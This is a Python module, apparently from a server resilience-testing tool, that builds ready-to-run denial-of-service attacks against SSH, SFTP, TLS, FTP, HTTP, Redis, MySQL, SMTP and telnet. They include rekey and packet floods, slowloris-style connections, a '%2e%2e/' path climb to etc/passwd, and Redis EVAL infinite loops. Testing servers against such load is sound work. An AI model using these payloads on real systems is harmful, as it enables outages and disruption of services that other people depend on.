# SPDX-License-Identifier: MIT
"""Attacks within a protocol: what a client may send once it is understood, in numbers that no client means."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import socket
import ssl
import struct
from collections.abc import Awaitable, Callable

import asyncssh

from hostile.attack import PORTS, Attack, Attacker, Play, Target, address_of, all_of, crowd, rounds
from hostile.attacks import http, services
from hostile.attacks.services import flood, telnet_guesses, unread

_IGNORE, _GLOBAL_REQUEST = 2, 80
Use = Callable[[Target, asyncssh.SSHClientConnection], Awaitable[object]]
_KEYS = 100
_MANY = 2000
"""Of what one connection is given at a time."""


def logged_in(use: Use) -> Attacker:
    """Return an attacker that logs in by SSH and uses the connection, again and again."""

    async def attacker(target: Target, number: int) -> None:
        async def once() -> None:
            async with await target.log_in(number) as connection:
                async with asyncio.timeout(target.left + 1):
                    await use(target, connection)

        await rounds(target, once)

    return attacker


async def rekeying(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Ask for new keys as soon as there are new keys."""
    while target.left:
        if not connection._kexinit_sent:
            connection._send_kexinit()
        await asyncio.sleep(0.001)


async def ignored(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Send packets that mean nothing, and questions that have to be answered."""
    question = struct.pack(">I", 4) + b"what" + b"\1"
    while target.left:
        for _ in range(_MANY):
            connection.send_packet(_IGNORE, struct.pack(">I", 4) + bytes(4))
            connection.send_packet(_GLOBAL_REQUEST, question)
        await asyncio.sleep(0.01)


async def unread_output(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Have a window of 4 GiB filled and read nothing."""
    for _ in range(8):
        target.sent("session.command")
        await connection.create_process("yes", window=(1 << 32) - 1, encoding=None)
    transport = connection._transport
    if transport is not None:
        transport.pause_reading()
    await target.stay()


async def environment(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Set thousands of large variables before a command."""
    variables = {f"LC_{number}": "v" * 8000 for number in range(_MANY)}
    for _ in range(8):
        target.sent("session.command")
        await connection.run("env | wc -c", env=variables, check=False)


async def empty_channels(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Open sessions and ask for nothing in them."""
    opened = (connection.create_session(asyncssh.SSHClientSession, request_pty=False) for _ in range(200))
    await all_of(*opened)
    await target.stay()


async def typed(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Type one line without an end, tabs, cursor movements and changes of the window in a terminal."""
    process = await connection.create_process(term_type="xterm", term_size=(500, 200), encoding=None)
    keys = b"ls /usr/bin/\t" + b"x" * 3000 + b"\x1b[D" * 500 + b"\x1b[A\x12a\x01\x0b\x19" * 100
    while target.left:
        process.stdin.write(keys)
        for width in range(20, 60):
            process.change_terminal_size(width, 5)
        await asyncio.wait_for(process.stdin.drain(), target.left + 1)
        await asyncio.sleep(0.01)


async def listings(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Read every directory by SFTP, a hundred requests under way."""
    async with connection.start_sftp_client() as sftp:
        while target.left:
            paths = itertools.islice(itertools.cycle(("/usr/bin", "/", "/etc", "/usr/bin/../" * 300, "/proc")), 100)
            await asyncio.gather(*(sftp.listdir(path) for path in paths), return_exceptions=True)


async def handles(target: Target, connection: asyncssh.SSHClientConnection) -> None:
    """Make and remove files, links and directories by SFTP, a hundred requests under way."""
    async with connection.start_sftp_client() as sftp:
        while target.left:
            made = (sftp.open(f"/tmp/{number}", "wb") for number in range(50))
            links = (sftp.symlink(f"/tmp/l{number + 1}", f"/tmp/l{number}") for number in range(50))
            await asyncio.gather(*made, *links, sftp.realpath("/tmp/l0/" * 200), return_exceptions=True)


async def public_keys(target: Target, source: int) -> None:
    """Offer one key after the other."""
    key = asyncssh.generate_private_key("ssh-ed25519")

    async def once() -> None:
        target.sent("auth.attempt", _KEYS)
        with contextlib.suppress(asyncssh.PermissionDenied):
            connection = await asyncssh.connect(
                target.address, target.ssh, local_addr=(address_of(source), 0), username="root", known_hosts=None,
                client_keys=[key] * _KEYS, agent_path=None, config=None, preferred_auth="publickey",
            )  # fmt: skip
            connection.abort()

    await rounds(target, once)


async def resets(target: Target, source: int) -> None:
    """Connect and reset, thousands of times a second."""
    loop = asyncio.get_running_loop()
    for port in itertools.islice(itertools.cycle((target.ssh, target.http, *PORTS.values())), 20_000):
        if not target.left:
            return
        with socket.socket() as sock, contextlib.suppress(OSError):
            sock.setblocking(False)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.bind((address_of(source), 0))
            await asyncio.wait_for(loop.sock_connect(sock, (target.address, port)), 1)


async def slow_tls(target: Target, source: int) -> None:
    """Shake hands with one byte in each record and each segment."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    hello = outgoing.read()[5:]

    async def once() -> None:
        _, writer = await target.tcp(PORTS["https"], source)
        try:
            for byte in hello:
                writer.write(b"\x16\x03\x01\x00\x01" + bytes((byte,)))
                await writer.drain()
            await asyncio.sleep(min(0.2, target.left))
        finally:
            writer.transport.abort()

    await rounds(target, once)


async def data_ports(target: Target, source: int) -> None:
    """Have one port after the other opened by FTP, and connect to none."""
    reader, writer = await target.tcp(PORTS["ftp"], source)
    try:
        target.sent("auth.attempt")
        target.sent("session.command", 1_000_000)
        writer.write(services.FTP_LOGIN)
        while target.left:
            writer.write(b"PASV\r\nEPSV\r\nPORT 127,66,0,1,200,200\r\nLIST -R /*/*/*\r\nSTAT /usr/*/*\r\n" * 100)
            async with asyncio.timeout(target.left + 1):
                await reader.read(1 << 16)
    finally:
        writer.transport.abort()


def slow_everywhere(connections: int) -> Play:
    """Send one byte every half second to every service, on as many connections each."""

    async def one(target: Target, source: int, port: int) -> None:
        _, writer = await target.tcp(port, source)
        try:
            while target.left:
                writer.write(b"a")
                await asyncio.sleep(min(0.5, target.left))
        finally:
            writer.transport.abort()

    async def play(target: Target) -> None:
        ports = (target.ssh, target.http, *PORTS.values())
        await all_of(*(one(target, number % 50, port) for port in ports for number in range(connections)))

    return play


POST = b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
EXTENSIONS = CHUNKED + (b"1" + b";a=" + b"b" * 4000 + b"\r\nx\r\n") * 200
TRAILERS = CHUNKED + b"0\r\n" + b"X: y\r\n" * 20_000
BLANKS = b"\r\n" * 200_000 + b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
PARTS = (
    POST + b"Content-Length: 900000\r\n\r\n" + b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n' * 16_000
)
CLIMBING = b"GET /" + b"%2e%2e/" * 1100 + b"etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"
EXPECTED_BODY = POST + b"Content-Length: 1\r\nExpect: 100-continue\r\n\r\nx"


def _redis(*words: bytes) -> bytes:
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words)


REDIS = b"".join(
    (
        _redis(b"MSET", *(b"k%d" % (number // 2) for number in range(60_000))),
        _redis(b"SETRANGE", b"k", b"536870000", b"x"),
        _redis(b"SETBIT", b"k", b"4294967295", b"1"),
        _redis(b"MGET", *(b"k1" for _ in range(60_000))),
        _redis(b"DEL", *(b"k%d" % number for number in range(60_000))),
        _redis(b"KEYS", b"*a*a*a*a*a*b"),
        _redis(b"EVAL", b"while true do end " * 3000, b"0"),
        _redis(b"MULTI") + _redis(b"PING") * 20_000 + _redis(b"EXEC"),
        _redis(b"SUBSCRIBE", *(b"c%d" % number for number in range(60_000))),
        b"*2147483647\r\n",
    )
)


def _mysql(sequence: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "little") + bytes((sequence & 255,)) + payload


_HELLO = _mysql(1, struct.pack("<IIB", 0x0008A685, 1 << 24, 33) + bytes(23) + b"root\0\0mysql_native_password\0")
STATEMENTS = (
    b"SELECT " + b"(" * 400_000,
    b"SELECT " + b"a," * 400_000 + b"a",
    b"SELECT '" + b"\\'" * 400_000,
    b"SELECT " + b"/*" * 400_000,
    b"SELECT " + b"x union select " * 60_000,
    b"SELECT REPEAT('a', 1000000000), BENCHMARK(1000000000, MD5(1)), SLEEP(1000000)",
    b"INSERT INTO t VALUES " + b"(1,2)," * 150_000,
    b" " * 900_000 + b"SELECT 1",
)
MYSQL = _HELLO + b"".join(_mysql(0, b"\3" + one) for one in STATEMENTS)
COMPRESSED = _mysql(1, struct.pack("<IIB", 0x0008A6A5, 1 << 24, 33) + bytes(23) + b"root\0\0") + (
    b"\x32\x00\x00\x00\xff\xff\xff" + os.urandom(50)
) * 2000  # fmt: skip

RECIPIENTS = b"EHLO x\r\nMAIL FROM:<a@b.example>\r\n" + b"RCPT TO:<c@d.example>\r\n" * 1_000_000
EMPTY_LINES = b"EHLO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\n" + b"\n" * 8_000_000
TINY_MAILS = b"EHLO x\r\n" + b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n.\r\n" * 2000
SUBNEGOTIATION = b"\xff\xfa\x18" + b"\xff\xff" * 500_000

ATTACKS = (
    Attack("SSH: keys exchanged again and again x4", crowd(4, logged_in(rekeying))),
    Attack("SSH: packets without meaning x4", crowd(4, logged_in(ignored))),
    Attack("SSH: output of 4 GiB windows, unread x4", crowd(4, logged_in(unread_output))),
    Attack("SSH: 2,000 variables of 8 KB x4", crowd(4, logged_in(environment))),
    Attack("SSH: 200 empty sessions x4", crowd(4, logged_in(empty_channels))),
    Attack("SSH: keys typed without end x4", crowd(4, logged_in(typed))),
    Attack("SSH: 100 public keys, again x10", crowd(10, public_keys)),
    Attack("SFTP: listings x4", crowd(4, logged_in(listings))),
    Attack("SFTP: files and links x4", crowd(4, logged_in(handles))),
    Attack("connections that are reset", crowd(8, resets), short=True),
    Attack("a byte every half second, all services", slow_everywhere(60)),
    Attack("HTTP: chunk extensions", http.unread(EXTENSIONS, 1, 20, 5)),
    Attack("HTTP: trailers without end", http.unread(TRAILERS, 1, 20, 5)),
    Attack("HTTP: empty lines before a request", http.unread(BLANKS, 1, 20, 5)),
    Attack("HTTP: 16,000 parts of a form", http.unread(PARTS, 1, 20, 5)),
    Attack("HTTP: paths that climb", http.unread(CLIMBING * 500, 500, 20, 5)),
    Attack("HTTP: Expect: 100-continue", http.unread(EXPECTED_BODY * 3000, 3000, 20, 5)),
    Attack("https: a byte in each record", crowd(20, slow_tls, 5)),
    Attack("ftp: data ports that nobody uses", crowd(20, data_ports, 5)),
    Attack("redis: commands with 60,000 arguments", unread("redis", REDIS, 10, 5, {"auth.attempt": 0})),
    Attack("mysql: statements of 1 MB", unread("mysql", MYSQL, 10, 5, {"auth.attempt": 1, "session.command": 8})),
    Attack("mysql: compressed packets", flood("mysql", COMPRESSED, 20, 5, {"auth.attempt": 1})),
    Attack("smtp: a million recipients", unread("smtp", RECIPIENTS, 10, 5)),
    Attack("smtp: a mail of empty lines", unread("smtp", EMPTY_LINES, 10, 5)),
    Attack("smtp: 2,000 mails in one go", unread("smtp", TINY_MAILS, 10, 5)),
    Attack("telnet: a subnegotiation without end", unread("telnet", SUBNEGOTIATION, 20, 5)),
    Attack("telnet: a password of 2 MB", telnet_guesses(b"p" * 2_000_000, 20, 5)),
)  # fmt: skip
